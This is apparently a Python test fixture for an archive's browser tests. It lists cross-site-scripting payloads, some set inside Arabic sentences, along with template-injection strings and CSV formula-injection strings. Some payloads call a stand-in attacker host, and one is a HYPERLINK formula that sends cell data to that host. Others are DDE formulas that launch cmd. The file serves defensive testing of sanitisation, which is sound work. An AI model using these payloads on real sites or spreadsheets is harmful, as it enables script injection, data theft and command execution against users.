"""A cross-site-scripting corpus for the archive's browser tests (tests/browser/test_xss.py).

Every payload, if it ever ran, would show itself in one of three ways the test
watches for: a dialog (``alert``/``confirm``/``prompt``), the flag
``window.__xss`` (an init script wraps the dialogs to set it too), or a request
to ``ATTACKER`` (a ``.invalid`` host: it never resolves, but the browser asks).
None may happen, and the payload must stay readable, as text, where it was put.

The payloads are kept on one line and without runs of spaces: the importer
collapses whitespace in titles and splits bodies into paragraphs at line breaks,
so a one-line payload comes back exactly as it went in.

``PAYLOADS``           everything, classic to exotic, some inside Arabic sentences
``FILE_NAME_PAYLOADS`` those usable as the name of an uploaded file (no "/" or "\\":
                       a browser and Django keep only what follows the last one)
``FORMULA_PAYLOADS``   spreadsheet formulas: harmless in a page, dangerous in a CSV
"""

ATTACKER = "http://attacker.invalid"

PAYLOADS = [
    # -- classic script injection ------------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://attacker.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=fetch('http://attacker.invalid/svg')>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # -- breaking out of an attribute, a string or an element ---------------------
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "'-alert(1)-'",
    '";alert(1);//',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    # -- frames, links, data: URLs and other ways to load something ---------------
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="javascript:alert(1)">اضغط هنا</a>',
    "javascript:alert(1)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<img src="http://attacker.invalid/pixel.png">',
    "<link rel=stylesheet href=http://attacker.invalid/x.css>",
    "<style>@import 'http://attacker.invalid/x.css';</style>",
    '<base href="http://attacker.invalid/">',
    '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
    '<form action="http://attacker.invalid/"><button>إرسال</button></form>',
    # -- mutation XSS: markup a sanitiser and the parser read differently ---------
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    # -- template injection: must stay literal ----------------------------------
    "{{7*7}}",
    "${7*7}",
    "{% debug %}{{ request.META }}",
    "#{7*7}<%= 7*7 %>",
    # -- already escaped: must not be unescaped on the way ------------------------
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # -- Unicode: direction overrides and isolates around markup --------------------
    "\u202e<script>alert(1)</script>\u202c",
    "\u2067\"><img src=x onerror=alert(1)>\u2069",
    "\u200f<svg onload=alert(1)>\u200e",
    # -- inside Arabic text ---------------------------------------------------------
    "قال المتحدث <script>alert(1)</script> إن القوات تقدمت",
    "أعلنت القيادة <img src=x onerror=alert(1)> تحرير القرية",
    "«<svg onload=alert(1)>» هكذا وصف الشاهد الهجوم",
    "بيان: \"><script>window.__xss=1</script> انتهى البيان",
]

FILE_NAME_PAYLOADS = [p for p in PAYLOADS if "/" not in p and "\\" not in p]

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"اضغط")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]
